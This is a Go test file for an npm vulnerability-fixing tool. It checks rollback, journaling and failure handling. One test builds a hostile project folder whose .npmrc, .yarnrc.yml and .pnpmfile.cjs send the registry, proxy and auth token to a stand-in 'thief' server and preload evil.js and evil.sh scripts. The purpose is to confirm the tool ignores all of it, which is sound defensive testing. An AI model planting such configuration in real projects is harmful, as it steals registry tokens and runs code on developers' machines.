package fix_test

import (
	"context"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/panoplysec/panoply/internal/fix"
	"github.com/panoplysec/panoply/internal/need"
	"github.com/panoplysec/panoply/internal/npmregistry"
)

var simple = scenario{
	files: map[string]string{
		"package.json": app(`"scripts": {"test": "node test.js"}, "dependencies": {"web": "^1.0.0"}`),
		"test.js":      "process.exit(require('web/package.json').version === '1.0.1' ? 0 : 1)\n",
	},
	then: "web@1.0.0", now: "web@1.0.1", advisories: "GHSA-1 web 1.0.1",
	steps: []string{"update web 1.0.0 to 1.0.1 in the lockfile"},
}

// locked is the folder of the simple scenario, and its registry.
func locked(t *testing.T) (string, *registry) {
	t.Helper()
	npm := need.Program(t, "npm")
	dir := folder(t, simple.files)
	r := simple.lock(t, dir, npm, "install", "--package-lock-only", "--ignore-scripts", "--no-fund")
	return dir, r
}

// A folder that would send package managers, and tokens, elsewhere.
func TestTheFolderIsData(t *testing.T) {
	dir, r := locked(t)
	r.demand("t0k3n")
	var stolen atomic.Int64
	thief := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
		t.Logf("the folder's host was asked for %s", q.URL)
		stolen.Add(1)
		http.NotFound(w, q)
	}))
	defer thief.Close()
	write := func(name, text string) {
		t.Helper()
		name = filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	host := strings.TrimPrefix(thief.URL, "http:")
	write(".npmrc", "registry="+thief.URL+"/\n"+host+"/:_authToken=${NPM_TOKEN}\nhttps-proxy="+thief.URL+"\nproxy="+thief.URL+"\nignore-scripts=false\n"+
		"node-options=--require "+filepath.Join(dir, "evil.js")+"\nscript-shell="+filepath.Join(dir, "evil.sh")+"\ngit="+filepath.Join(dir, "evil.sh")+"\n")
	write("evil.js", "require('fs').writeFileSync("+quote(mark(t))+", 'x')")
	write("evil.sh", "#!/bin/sh\ntouch "+mark(t)+"\n")
	write(".yarnrc.yml", "npmRegistryServer: "+thief.URL+"\nyarnPath: ./evil.js\n")
	write(".pnpmfile.cjs", "require('./evil.js')")
	t.Setenv("NPM_TOKEN", "t0k3n")
	if err := os.Chmod(filepath.Join(dir, "evil.sh"), 0o755); err != nil {
		t.Fatal(err)
	}

	user := filepath.Join(t.TempDir(), ".npmrc")
	rc := "registry=" + r.URL + "/\n" + strings.TrimPrefix(r.URL, "http:") + "/:_authToken=${NPM_TOKEN}\n"
	if err := os.WriteFile(user, []byte(rc), 0o600); err != nil {
		t.Fatal(err)
	}
	simple.prove(t, dir, clientOf(t, npmregistry.Sources{User: user, Environ: []string{"NPM_TOKEN=t0k3n"}}))
	if n := stolen.Load(); n != 0 {
		t.Errorf("the host that the folder names was asked %d times", n)
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.denied != 0 {
		t.Errorf("the registry was asked %d times without the token", r.denied)
	}
}

func quote(s string) string { return `"` + s + `"` }

func TestATestThatFailsLeavesTheFolderAsItWas(t *testing.T) {
	dir, r := locked(t)
	o := fix.Options{Advisories: advisories(t, "npm", simple.advisories), Registry: client(t, r)}
	f := open(t, dir, o)
	out, err := f.Fix(bounded(t))
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Test(bounded(t), out, io.Discard); err != nil {
		t.Errorf("Test = %v, want the new version to be installed and to pass", err)
	}
	if err := os.WriteFile(filepath.Join(dir, "test.js"), []byte("process.exit(1)"), 0o644); err != nil {
		t.Fatal(err)
	}
	before := snapshot(t, dir)
	if err := f.Test(bounded(t), out, io.Discard); err == nil {
		t.Error("Test = nil, want the failure of the script")
	}
	if after := snapshot(t, dir); after != before {
		t.Errorf("the folder changed:\n%s", after)
	}
}

// What is written is taken back, byte for byte and mode for mode, when what decides says no.
func TestWriteIsTakenBack(t *testing.T) {
	dir, r := locked(t)
	for name, mode := range map[string]os.FileMode{"package-lock.json": 0o640, "package.json": 0o755} {
		if err := os.Chmod(filepath.Join(dir, name), mode); err != nil {
			t.Fatal(err)
		}
	}
	before := snapshot(t, dir)
	f := open(t, dir, fix.Options{Advisories: advisories(t, "npm", simple.advisories), Registry: client(t, r)})
	out, err := f.Fix(bounded(t))
	if err != nil {
		t.Fatal(err)
	}
	no := errors.New("no")
	err = f.Write(out, func() error {
		if !fix.Interrupted(dir) || snapshot(t, dir) == before {
			t.Error("nothing was written before the check, or there is no journal")
		}
		return no
	})
	if !errors.Is(err, no) {
		t.Errorf("Write = %v, want %v", err, no)
	}
	if after := snapshot(t, dir); after != before {
		t.Errorf("the folder was:\n%s\nand is:\n%s", before, after)
	}

	// One that is cut off in the middle can be taken back later.
	func() {
		defer func() { _ = recover() }()
		_ = f.Write(out, func() error { panic("power cut") })
	}()
	if err := f.Write(out, nil); !errors.Is(err, fix.ErrInterrupted) {
		t.Errorf("Write after a cut = %v, want %v", err, fix.ErrInterrupted)
	}
	if err := fix.Restore(dir); err != nil {
		t.Fatal(err)
	}
	if after := snapshot(t, dir); after != before {
		t.Errorf("the folder was:\n%s\nand is:\n%s", before, after)
	}

	// A file that somebody else changed is left alone.
	if err := os.WriteFile(filepath.Join(dir, "package-lock.json"), []byte("{}"), 0o640); err != nil {
		t.Fatal(err)
	}
	if err := f.Write(out, nil); err == nil || !strings.Contains(err.Error(), "changed while") {
		t.Errorf("Write over a change = %v, want an error", err)
	}
}

func TestAPackageManagerThatFailsChangesNothing(t *testing.T) {
	dir, r := locked(t)
	bin := t.TempDir()
	if err := os.WriteFile(filepath.Join(bin, "npm"), []byte("#!/bin/sh\necho 'npm error code EBROKEN' >&2\nrm -f package-lock.json\nexit 7\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", bin+string(os.PathListSeparator)+os.Getenv("PATH"))
	before := snapshot(t, dir)
	f := open(t, dir, fix.Options{Advisories: advisories(t, "npm", simple.advisories), Registry: client(t, r)})
	if _, err := f.Fix(bounded(t)); err == nil || !strings.Contains(err.Error(), "EBROKEN") {
		t.Errorf("Fix = %v, want npm's error", err)
	}
	if after := snapshot(t, dir); after != before {
		t.Errorf("the folder changed:\n%s", after)
	}
	ctx, stop := context.WithCancel(t.Context())
	stop()
	if _, err := open(t, dir, fix.Options{Advisories: advisories(t, "npm", simple.advisories), Registry: client(t, r)}).Fix(ctx); err == nil {
		t.Error("Fix with an ended context = nil, want an error")
	}
}

// Without the package manager there is a plan, and it cannot be written.
func TestAPlanWithoutAPackageManager(t *testing.T) {
	dir, r := locked(t)
	t.Setenv("PATH", t.TempDir())
	f := open(t, dir, fix.Options{Advisories: advisories(t, "npm", simple.advisories), Registry: client(t, r)})
	out, err := f.Fix(bounded(t))
	if err != nil {
		t.Fatal(err)
	}
	if len(out.Steps) != 1 || out.Steps[0].To != "1.0.1" || out.Unverified == "" || len(out.Left) != 1 {
		t.Errorf("outcome = %+v, want one step that was not tried", out)
	}
	if err := f.Write(out, nil); err == nil {
		t.Error("Write of a plan that was not tried = nil")
	}
}

// A registry that does not answer is no folder without a mending.
func TestARegistryThatDoesNotAnswer(t *testing.T) {
	dir, r := locked(t)
	r.demand("another")
	f := open(t, dir, fix.Options{Advisories: advisories(t, "npm", simple.advisories), Registry: client(t, r)})
	if out, err := f.Fix(bounded(t)); err == nil || !strings.Contains(err.Error(), "401") {
		t.Errorf("Fix = %+v, %v, want the registry's refusal", out, err)
	}
	if _, err := fix.New(dir, fix.Options{Advisories: advisories(t, "npm", ""), Registry: client(t, r)}); err != nil {
		t.Errorf("New = %v", err)
	}
	if _, err := fix.New(dir, fix.Options{Advisories: advisories(t, "Go", "")}); err == nil || !strings.Contains(err.Error(), "know nothing of npm") {
		t.Errorf("New with advisories of another ecosystem = %v, want an error", err)
	}
}
